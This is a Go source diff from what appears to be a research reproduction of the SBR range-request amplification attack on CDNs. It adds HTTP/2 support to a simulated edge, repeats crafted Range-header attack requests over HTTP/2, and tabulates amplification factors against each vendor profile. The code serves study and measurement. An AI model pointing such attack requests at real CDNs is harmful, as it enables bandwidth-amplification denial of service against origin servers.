@@ -1,0 +1,101 @@
+package core
+
+import (
+	"fmt"
+
+	"repro/internal/h2"
+	"repro/internal/measure"
+	"repro/internal/report"
+	"repro/internal/resource"
+	"repro/internal/vendor"
+)
+
+// edgeH2Addr is the edge's HTTP/2 listener, started on demand.
+const edgeH2Addr = "edge-h2.cdn:80"
+
+// EnableH2 attaches an HTTP/2 listener to the topology's edge (the
+// same engine answers both protocol versions, as real CDN edges do).
+func (t *SBRTopology) EnableH2() error {
+	l, err := t.Net.Listen(edgeH2Addr)
+	if err != nil {
+		return fmt.Errorf("listen h2: %w", err)
+	}
+	t.listeners = append(t.listeners, l)
+	go h2.Serve(l, t.Edge)
+	return nil
+}
+
+// RunSBROverH2 performs the SBR attack over an HTTP/2 connection to
+// the edge — the §VI-B observation in executable form. The crafted
+// Range header is identical; only the client-side framing changes.
+func RunSBROverH2(t *SBRTopology, path string, resourceSize int64, cacheBuster string) (*SBRResult, error) {
+	exploit := SBRExploit(t.Profile.Name, resourceSize)
+	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)
+	target := path + "?cb=" + cacheBuster
+
+	result := &SBRResult{Case: exploit}
+	for i := 0; i < exploit.Repeat; i++ {
+		conn, err := t.Net.Dial(edgeH2Addr, t.ClientSeg)
+		if err != nil {
+			return nil, fmt.Errorf("dial h2 edge: %w", err)
+		}
+		req := NewAttackRequest(target)
+		req.Headers.Add("Range", exploit.RangeHeader)
+		resp, err := h2.Fetch(conn, req)
+		if err != nil {
+			return nil, fmt.Errorf("h2 sbr request %d: %w", i, err)
+		}
+		result.Responses = append(result.Responses, resp)
+	}
+	result.Amplification = probe.Delta()
+	return result, nil
+}
+
+// H2Comparison runs the same SBR exploit over HTTP/1.1 and HTTP/2
+// against every vendor and tabulates both factors, demonstrating that
+// the vulnerability is protocol-version independent (and slightly
+// worse over h2, because HPACK shrinks the attacker-side bytes).
+func H2Comparison(sizeMB int) (*report.Table, map[string][2]float64, error) {
+	size := int64(sizeMB) * MiB
+	factors := make(map[string][2]float64, 13)
+	tab := &report.Table{
+		Title:   fmt.Sprintf("§VI-B — SBR amplification over HTTP/1.1 vs HTTP/2 (%dMB resource)", sizeMB),
+		Columns: []string{"CDN", "HTTP/1.1 Factor", "HTTP/2 Factor", "h2/h1"},
+	}
+	for _, p := range vendor.All() {
+		store := resource.NewStore()
+		store.AddSynthetic(targetPath, size, contentType)
+		topo, err := NewSBRTopology(p.Clone(), store, SBROptions{OriginRangeSupport: true})
+		if err != nil {
+			return nil, nil, err
+		}
+		if err := topo.EnableH2(); err != nil {
+			topo.Close()
+			return nil, nil, err
+		}
+		if err := PrimeSizeHint(topo, targetPath); err != nil {
+			topo.Close()
+			return nil, nil, err
+		}
+
+		h1Res, err := RunSBR(topo, targetPath, size, "h1")
+		if err != nil {
+			topo.Close()
+			return nil, nil, fmt.Errorf("%s h1: %w", p.Name, err)
+		}
+		h2Res, err := RunSBROverH2(topo, targetPath, size, "h2")
+		topo.Close()
+		if err != nil {
+			return nil, nil, fmt.Errorf("%s h2: %w", p.Name, err)
+		}
+
+		f1 := h1Res.Amplification.Factor()
+		f2 := h2Res.Amplification.Factor()
+		factors[p.DisplayName] = [2]float64{f1, f2}
+		tab.AddRow(p.DisplayName,
+			fmt.Sprintf("%.0f", f1),
+			fmt.Sprintf("%.0f", f2),
+			fmt.Sprintf("%.2f", f2/f1))
+	}
+	return tab, factors, nil
+}
